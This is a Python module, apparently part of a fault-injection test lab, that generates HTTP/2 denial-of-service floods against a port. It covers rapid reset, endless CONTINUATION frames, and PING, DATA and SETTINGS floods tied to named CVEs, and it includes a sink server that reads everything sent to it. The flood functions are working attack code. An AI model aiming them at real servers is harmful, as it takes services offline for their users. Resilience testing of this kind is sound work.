"""Floods of HTTP/2 frames, and a server that reads all of them, as processes.

``python -m lab.faults.http2_flood sink PORT`` accepts connections and reads.
``python -m lab.faults.http2_flood flood PORT KIND SECONDS CONNECTIONS`` sends frames of a kind as
fast as they are read, and prints the number of frames.
"""

from __future__ import annotations

import asyncio
import struct
import sys
from collections.abc import Callable, Iterator, Mapping
from contextlib import closing, suppress
from time import monotonic

import uvloop
from hpack import Encoder

from lab.faults.stream_processes import GONE, Reader, Writer
from lab.process import HOST

BATCH = 1000
"""Frames in one write."""
_PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
_DATA, _HEADERS, _RST_STREAM, _SETTINGS, _PING, _CONTINUATION = 0, 1, 3, 4, 6, 9
_END_HEADERS = 0x4
_CANCEL = struct.pack(">I", 8)
_CALL = Encoder().encode(
    [
        (":method", "POST", True),
        (":scheme", "http", True),
        (":path", "/inference.GRPCInferenceService/ModelStreamInfer", True),
        (":authority", "flood", True),
        ("content-type", "application/grpc", True),
    ],
    huffman=False,
)
"""A header block of literals only, which every stream can repeat."""


def _frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    return len(payload).to_bytes(3, "big") + struct.pack(">BBI", kind, flags, stream) + payload


def _rapid_reset() -> Iterator[bytes]:
    """Yield batches of calls that are reset at once (CVE-2023-44487)."""
    stream = 1
    while True:
        frames = []
        for _ in range(BATCH // 2):
            frames += [
                _frame(_HEADERS, _END_HEADERS, stream, _CALL),
                _frame(_RST_STREAM, 0, stream, _CANCEL),
            ]
            stream += 2
        yield b"".join(frames)


def _continuation() -> Iterator[bytes]:
    """Yield batches of a header block that does not end (CVE-2024-27316)."""
    yield _frame(_HEADERS, 0, 1, _CALL)
    batch = _frame(_CONTINUATION, 0, 1, b"\x00\x01x\x01y") * BATCH
    while True:
        yield batch


def _repeated(frame: bytes) -> Callable[[], Iterator[bytes]]:
    """Return a flood of one frame during a call (CVE-2019-9512, CVE-2019-9515, CVE-2019-9518)."""

    def batches() -> Iterator[bytes]:
        yield _frame(_HEADERS, _END_HEADERS, 1, _CALL)
        batch = frame * BATCH
        while True:
            yield batch

    return batches


FLOODS: Mapping[str, Callable[[], Iterator[bytes]]] = {
    "rapid-reset": _rapid_reset,
    "continuation": _continuation,
    "ping": _repeated(_frame(_PING, 0, 0, bytes(8))),
    "data": _repeated(_frame(_DATA, 0, 1)),
    "settings": _repeated(_frame(_SETTINGS, 0, 0, struct.pack(">HI", 4, 65535))),
}


async def flood(port: int, kind: str, seconds: float, connections: int) -> int:
    """Flood a port over several connections; return the number of frames sent."""
    end = monotonic() + seconds

    async def one() -> int:
        sent = 0
        with suppress(*GONE):
            _, writer = await asyncio.open_connection(HOST, port)
            with closing(writer):
                writer.write(_PREFACE + _frame(_SETTINGS, 0, 0))
                for batch in FLOODS[kind]():
                    writer.write(batch)
                    async with asyncio.timeout(max(0.01, end - monotonic())):
                        await writer.drain()
                    await asyncio.sleep(0)  # drain() returns at once while the proxy keeps up
                    sent += BATCH
                    if monotonic() > end:
                        break
        return sent

    return sum(await asyncio.gather(*(one() for _ in range(connections))))


async def sink(port: int) -> None:
    """Accept connections, send SETTINGS, and read all bytes; print ``ready`` once listening."""

    async def read(reader: Reader, writer: Writer) -> None:
        with closing(writer), suppress(*GONE):
            writer.write(_frame(_SETTINGS, 0, 0))
            while await reader.read(1 << 18):
                pass

    server = await asyncio.start_server(read, HOST, port)
    print("ready", flush=True)
    await server.serve_forever()


if __name__ == "__main__":
    match sys.argv[1:]:
        case ["sink", port]:
            uvloop.run(sink(int(port)))
        case ["flood", port, kind, seconds, connections]:
            print(uvloop.run(flood(int(port), kind, float(seconds), int(connections))))
